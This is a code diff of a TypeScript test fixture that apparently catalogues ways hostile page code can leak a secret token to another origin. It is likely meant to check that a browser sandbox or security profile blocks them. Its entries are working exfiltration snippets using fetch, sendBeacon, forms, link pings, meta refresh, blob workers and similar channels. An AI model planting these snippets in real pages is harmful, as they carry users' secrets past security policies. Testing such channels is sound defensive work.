@@ -1,14 +1,18 @@
 /**
  * Ways for hostile code in a page to tell somebody something. `code` runs in the page, `target` (an origin) and `token` (the
- * secret) are in scope. `only: 'elsewhere'` has no meaning against our own host. Measured beside the whole matrix of 126 ways.
+ * secret) are in scope. `only` names the ones that mean something against another host or our own (`home`) alone.
+ *
+ * Not here, because this profile leaves them open towards our own host alone: a download link with a query, Background Fetch,
+ * and a cookie on the daily check of the service worker.
  */
 export interface Escape {
   readonly name: string
   readonly code: string
-  readonly only?: 'elsewhere'
+  readonly only?: 'elsewhere' | 'home'
 }
 
-const element = (tag: string, attributes: string) => `Object.assign(document.body.appendChild(document.createElement('${tag}')), ${attributes})`
+const element = (tag: string, attributes: string) =>
+  `Object.assign(document.body.appendChild(document.createElement('${tag}')), ${attributes})`
 const address = 'target + "/x?" + token'
 const socket = 'target.replace("http", "ws") + "/x?" + token'
 const stun = (server: string) => `
@@ -19,7 +23,10 @@ const stun = (server: string) => `
 export const escapes: readonly Escape[] = [
   { name: 'fetch with a query', code: `await fetch(${address}, { mode: 'no-cors' })` },
   { name: 'fetch with a body', code: `await fetch(target + '/x', { method: 'POST', mode: 'no-cors', body: token })` },
-  { name: 'fetch of a known file with a header', code: `await fetch(target + '/', { headers: { 'accept-language': token }, cache: 'reload' })` },
+  {
+    name: 'fetch of a known file with a header',
+    code: `await fetch(target + '/', { headers: { 'accept-language': token }, cache: 'reload' })`,
+  },
   { name: 'keepalive fetch', code: `await fetch(target + '/x', { method: 'POST', mode: 'no-cors', keepalive: true, body: token })` },
   { name: 'XMLHttpRequest', code: `const x = new XMLHttpRequest(); x.open('GET', ${address}); x.send()` },
   { name: 'sendBeacon', code: `navigator.sendBeacon(target + '/x', token)` },
@@ -55,7 +62,7 @@ export const escapes: readonly Escape[] = [
   { name: 'link', code: `${element('a', `{ href: ${address} }`)}.click()` },
   { name: 'link in a new tab', code: `${element('a', `{ href: ${address}, target: '_blank' }`)}.click()` },
   { name: 'link with ping', code: `${element('a', `{ href: '#z', ping: ${address} }`)}.click()` },
-  { name: 'download link', code: `${element('a', `{ href: ${address}, download: 'f' }`)}.click()`, only: 'elsewhere' }, // to our own host: see THREATS in the README of trust
+  { name: 'download link', code: `${element('a', `{ href: ${address}, download: 'f' }`)}.click()`, only: 'elsewhere' },
   { name: 'window.open', code: `window.open(${address})` },
   {
     name: 'fetch inside an empty tab',
@@ -66,10 +73,13 @@ export const escapes: readonly Escape[] = [
     code: `const form = ${element('form', `{ action: target + '/x', method: 'post' }`)}
       form.append(Object.assign(document.createElement('input'), { name: 'q', value: token })); form.submit()`,
   },
-  { name: 'meta refresh', code: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + ${address} }))` },
+  {
+    name: 'meta refresh',
+    code: `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=' + ${address} }))`,
+  },
   {
     name: 'fetch inside a blob worker',
     code: `new Worker(URL.createObjectURL(new Blob(['fetch("' + ${address} + '", { mode: "no-cors" })'], { type: 'text/javascript' })))`,
   },
-  { name: 'address after reload', code: `history.pushState(0, '', '/?' + token); location.reload()` },
+  { name: 'address after reload', code: `history.pushState(0, '', '/?' + token); location.reload()`, only: 'home' },
 ]
